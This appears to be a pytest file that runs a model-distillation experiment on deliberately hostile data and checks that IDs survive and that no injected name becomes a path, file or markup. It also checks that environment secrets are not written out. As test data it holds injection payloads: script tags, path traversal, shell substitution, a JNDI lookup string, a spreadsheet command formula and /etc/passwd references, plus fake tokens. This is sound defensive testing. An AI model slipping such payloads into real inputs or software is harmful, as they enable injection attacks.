"""Names, texts and ids that would like to be paths, markup or commands, through a whole experiment; and secrets."""

import json

import pytest
import yaml
from pyarrow.parquet import read_table

from experiments import snapshot, write_lines
from kdlora.evidence.predictions import read_predictions
from tiny import sentiment_rows

LABELS = ("<script>document.title='owned'</script> ", "\x85../../x|`y`\n# \\input{/etc/passwd}")
IDS = (
    "../../../{}",
    '"><img src=x onerror=1>{}',
    "[red]{}[/red]",
    "a|b\n{}",
    "{}\u202e\u2028",
    "=cmd|' /C calc'!A{}",
    "{} ",
)
TEXTS = (
    "</style><script>document.title='owned'</script> {}",
    "![x](http://192.0.2.1/{}.png) | a | b |\n---\n# heading",
    "$(touch owned) `touch owned` ; touch owned {}",
    "\\input{{/etc/passwd}} ${{jndi:ldap://192.0.2.1/{}}}",
    "\u202egnirts desrever {} \ufeff\u200d\U0001f469\u200d\U0001f680 \ud7ff \U0010ffff",
    "é́́́́́́́ 日本語 \x07\x1b[31m {}",
)
SECRETS = {
    "HF_TOKEN": "hf_thisIsASecretThatNobodyMayRead",
    "WANDB_API_KEY": "wandb-secret-0123456789",
    "MLFLOW_TRACKING_PASSWORD": "mlflow-secret-0123456789",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-0123456789",
}


def hostile_rows(count: int, seed: int) -> list[dict[str, str]]:
    """Rows of the usual kind, dressed up."""
    return [
        {
            IDENT: IDS[number % len(IDS)].format(f"{seed}-{number}"),
            TEXT: f"{row['text']} {TEXTS[number % len(TEXTS)].format(number)}",
            LABEL: LABELS[row["label"] == "positive"],
        }
        for number, row in enumerate(sentiment_rows(count, seed))
    ]


IDENT, TEXT, LABEL = "../id|<b>", "text<script>", "label`|\n../.."


@pytest.fixture(scope="module")
def hostile(workshop, tmp_path_factory):
    """The folder around a finished experiment on hostile data, which has secrets in its environment."""
    from kdlora.configfile import build_config
    from kdlora.experiment.run import run_experiment

    root = tmp_path_factory.mktemp("hostile")
    files = {
        split: str(write_lines(root / f"{split}.jsonl", hostile_rows(count, seed)))
        for split, count, seed in (("train", 60, 0), ("validation", 24, 1))
    }
    values = workshop.values(
        {
            "task": {"text": TEXT, "label": LABEL},
            "data": files | {"id_column": IDENT},
            "run": {"arms": ["kd-lora"]},
            "export": {"formats": ["onnx"], "benchmark": False},
        }
    )
    with pytest.MonkeyPatch.context() as patch:
        for name, secret in SECRETS.items():
            patch.setenv(name, secret)
        patch.chdir(root)
        result = run_experiment(build_config(values), root / "work" / "out")
    assert not result.failed
    return root, result.layout


def test_ids_come_through_every_stage(hostile):
    """A prediction under a changed id belongs to another row."""
    root, layout = hostile
    rows = [json.loads(line) for line in (root / "validation.jsonl").read_text().splitlines()]
    predictions = read_predictions(layout.run("kd-lora", 0).predictions)
    assert list(predictions.ids) == [row[IDENT] for row in rows]
    assert set(predictions.label_names) == set(LABELS)
    stored = [
        name for file in sorted(layout.teacher_logits.glob("*.parquet")) for name in read_table(file)["id"].to_pylist()
    ]
    assert stored == [json.loads(line)[IDENT] for line in (root / "train.jsonl").read_text().splitlines()]


def test_no_name_becomes_a_path_or_markup_and_no_secret_is_kept(hostile):
    """`../../x` as a label, an id or a column must never become a path."""
    root, layout = hostile
    outside = {name for name in snapshot(root) if not name.startswith("work/out/")}
    assert outside == {"train.jsonl", "validation.jsonl"}
    assert not [path for path in root.rglob("*") if path.name in ("owned", "x") or "|" in path.name]
    assert layout.student.exists()
    assert (layout.onnx / "model.onnx").exists()

    # A token in a record is published with the record.
    for path in root.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert not [name for name, secret in SECRETS.items() if secret.encode() in content], path

    # A backtick in a label ends the code early, and what follows is markup.
    card = (layout.student / "README.md").read_text(encoding="utf-8")
    _, metadata, body = card.split("---\n", 2)
    assert set(yaml.safe_load(metadata)) >= {"library_name", "pipeline_tag", "tags"}
    assert "`` ../../x|`y` # \\input{/etc/passwd} ``" in body
